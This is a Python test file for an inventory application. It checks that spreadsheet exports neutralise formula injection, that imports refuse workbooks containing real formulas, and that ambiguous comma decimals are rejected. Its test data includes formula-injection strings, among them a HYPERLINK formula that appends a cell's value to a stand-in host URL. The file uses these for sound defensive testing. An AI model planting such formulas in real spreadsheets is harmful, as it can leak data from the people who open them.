"""What leaves or enters as a spreadsheet is data, never code, and a typed number is read one way.

Formula injection: a product name that starts like a formula is exported as a text cell (with Excel's
quote prefix) and comes back unchanged; a workbook holding real formulas is refused, never evaluated.
Commas: ``2,5`` is refused as ambiguous on the command line, in imports and in the grid; ``1,250.5`` is
one thousand two hundred fifty and a half everywhere.
"""

from __future__ import annotations

import json
from decimal import Decimal

import pytest
from openpyxl import Workbook
from openpyxl import load_workbook

from domain.catalog import commands as c
from domain.catalog import master as catalog
from domain.kernel.errors import BadInput
from domain.kernel.numbers import AmbiguousNumber
from domain.kernel.numbers import D
from tests.integration.imports.test_import_cli import cli
from tests.integration.imports.test_import_cli import ok
from tests.integration.imports.test_import_cli import shop  # noqa: F401 - the fixture
from tests.integration.imports.test_import_cli import write
from ui.spreadsheets import read_table
from ui.spreadsheets import write_xlsx


def stocked(db) -> dict[str, Decimal]:
    return {r["sku"]: Decimal(r["on_hand"]) for r in json.loads(ok(db, "stock", "--json"))}


DANGEROUS = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1+2", "-5 pack", "@SUM(A1:A9)", "=1+1 盒"]


def dangerous_products(path) -> None:
    """Products X-0, X-1, … named as ``DANGEROUS`` (each like a formula) in the database at ``path``."""
    from persistence.db import open_database

    db = open_database(path)
    try:
        for i, name in enumerate(DANGEROUS):
            catalog.add_product(db.uow(), c.AddProduct(f"X-{i}", name))
    finally:
        db.close()


@pytest.mark.parametrize("text,value", [("1250.5", "1250.5"), ("1,250.5", "1250.5"), ("1,250", "1250"),
                                        ("12,345,678.9", "12345678.9"), ("-3", "-3"), ("+1,000", "1000"),
                                        ("１２．５", "12.5"), ("0.0001", "0.0001")])
def test_a_point_is_the_decimal_separator_and_a_comma_separates_thousands(text, value):
    assert D(text) == Decimal(value)


@pytest.mark.parametrize("text", ["2,5", "1,25", "12,5000", "1,2,3", "1,250,5", ",5", "1,2345.6", "２，５"])
def test_a_comma_anywhere_else_is_refused_as_ambiguous_and_says_what_would_be_accepted(text):
    with pytest.raises(AmbiguousNumber) as refused:
        D(text)
    assert "1,250.5" in str(refused.value) and "point" in str(refused.value)


def test_the_suggestion_names_the_decimal_the_clerk_probably_meant():
    with pytest.raises(AmbiguousNumber, match=r"type 2\.5 if that is what you meant"):
        D("2,5")


def test_receive_2_comma_5_is_refused_and_posts_nothing(shop):  # noqa: F811
    ok(shop, "product", "add", "A", "--name", "Apple", "--unit", "kg")
    code, out, err = cli(shop, "receive", "A", "2,5", "--warehouse", "SH", "--unit-cost", "1.5")
    assert code == 2 and "'2,5' is ambiguous" in err and "2.5" in err
    code, out, err = cli(shop, "receive", "A", "2", "--warehouse", "SH", "--unit-cost", "1,5")
    assert code == 2 and "'1,5' is ambiguous" in err
    assert stocked(shop) == {}
    ok(shop, "receive", "A", "1,250.5", "--warehouse", "SH", "--unit-cost", "1.5")
    assert stocked(shop) == {"A": Decimal("1250.5")}


def test_an_import_with_a_decimal_comma_is_refused_row_by_row_and_writes_nothing(shop, tmp_path):  # noqa: F811
    ok(shop, "import", "products", str(write(tmp_path / "p.csv", "SKU,Name\nA,Apple\nB,Pear\n")))
    path = write(tmp_path / "s.csv", "SKU,Warehouse,Qty,Unit cost\nA,SH,\"2,5\",1.50\nB,SH,\"1,250\",\"1,5\"\n")
    code, out, err = cli(shop, "import", "stock", str(path))
    assert code == 2
    report = out + err
    assert "'2,5' is ambiguous" in report and "'1,5' is ambiguous" in report
    assert "'1,250'" not in report  # 1,250 is one thousand two hundred fifty: not a problem
    assert stocked(shop) == {}


def test_names_that_look_like_formulas_export_as_text_and_import_back_unchanged(shop, tmp_path):  # noqa: F811
    dangerous_products(shop)
    for i in range(len(DANGEROUS)):
        ok(shop, "receive", f"X-{i}", "1", "--warehouse", "SH", "--unit-cost", "2")
    for kind in ("stock", "movements"):
        target = tmp_path / f"{kind}.xlsx"
        ok(shop, "export", kind, str(target))
        book = load_workbook(target)
        cells = [cell for row in book.active.iter_rows() for cell in row]
        assert not [cell.coordinate for cell in cells if cell.data_type == "f"]  # no formula anywhere
        texts = {cell.value for cell in cells}
        assert set(DANGEROUS) <= texts
        prefixed = [cell for cell in cells if isinstance(cell.value, str) and cell.value in DANGEROUS]
        assert all(cell.quotePrefix for cell in prefixed)  # stays text when edited in Excel
        assert any(isinstance(cell.value, (int, float)) for cell in cells)  # numbers stay numbers

    sheet = tmp_path / "products.xlsx"
    write_xlsx(sheet, ["SKU", "Name"], [[f"Y-{i}", name] for i, name in enumerate(DANGEROUS)])
    assert read_table(sheet).rows == [(f"Y-{i}", name) for i, name in enumerate(DANGEROUS)]
    ok(shop, "import", "products", str(sheet))
    listed = ok(shop, "product", "list", "--json")
    for name in DANGEROUS:
        assert name in listed or name.replace('"', '\\"') in listed


def test_a_workbook_with_real_formulas_is_refused_naming_the_cells_and_nothing_is_run(tmp_path):
    path = tmp_path / "evil.xlsx"
    book = Workbook()
    sheet = book.active
    sheet.append(["SKU", "Name"])
    sheet.append(["A-1", '=HYPERLINK("http://x.example/","click")'])
    sheet.append(["A-2", "=1+1"])
    book.save(path)
    with pytest.raises(BadInput, match=r"formulas in B2, B3.*paste them as values"):
        read_table(path)


def test_export_movements_kind_writes_what_movements_kind_lists_and_still_no_formula(shop, tmp_path):  # noqa: F811
    """``export movements --kind`` filters as ``movements --kind`` and the window's Kind filter do (opening stock
    apart from the receipts); the names and references it writes stay text; an unknown kind is refused, naming the
    accepted ones, and writes no file."""
    dangerous_products(shop)
    ok(shop, "import", "stock", str(write(tmp_path / "s.csv", "SKU,Warehouse,Qty,Unit cost\nX-0,SH,5,2\n")))
    ok(shop, "receive", "X-1", "4", "--warehouse", "SH", "--unit-cost", "3", "--ref", "=1+1")
    ok(shop, "ship", "X-0", "2", "--warehouse", "SH", "--ref", "@SUM(A1:A9)")
    exported = {}
    for kind in ("opening", "receipt", "shipment", "transfer_out"):
        target = tmp_path / f"{kind}.xlsx"
        ok(shop, "export", "movements", str(target), "--kind", kind)
        cells = [cell for row in load_workbook(target).active.iter_rows() for cell in row]
        assert not [cell.coordinate for cell in cells if cell.data_type == "f"]  # no formula anywhere
        assert all(cell.quotePrefix for cell in cells if isinstance(cell.value, str) and cell.value[:1] in "=+-@")
        rows = list(load_workbook(target).active.iter_rows(min_row=2, values_only=True))
        exported[kind] = sorted((r[1], r[2], r[10]) for r in rows)  # kind, SKU, reference
        listed = json.loads(ok(shop, "movements", "--kind", kind, "--json"))
        assert sorted(r[-1] for r in rows) == sorted(m["id"] for m in listed)
    assert exported == {"opening": [("Opening stock", "X-0", exported["opening"][0][2])],
                        "receipt": [("Receipt", "X-1", "=1+1")], "shipment": [("Shipment", "X-0", "@SUM(A1:A9)")],
                        "transfer_out": []}
    code, out, err = cli(shop, "export", "movements", str(tmp_path / "bad.xlsx"), "--kind", "opening_stock")
    assert code == 2 and not (tmp_path / "bad.xlsx").exists()
    refusal = err.splitlines()[-1].split("error: ", 1)[1]
    assert refusal.startswith("argument --kind: invalid choice: 'opening_stock' (choose from 'receipt', 'shipment'")
    assert "'opening')" in refusal
    code, out, err = cli(shop, "movements", "--kind", "opening_stock")
    assert code == 2 and err.splitlines()[-1].split("error: ", 1)[1] == refusal  # the list's refusal, word for word
    code, out, err = cli(shop, "export", "stock", str(tmp_path / "s.xlsx"), "--kind", "receipt")
    assert code == 2 and "--kind" in err and "movements" in err and not (tmp_path / "s.xlsx").exists()
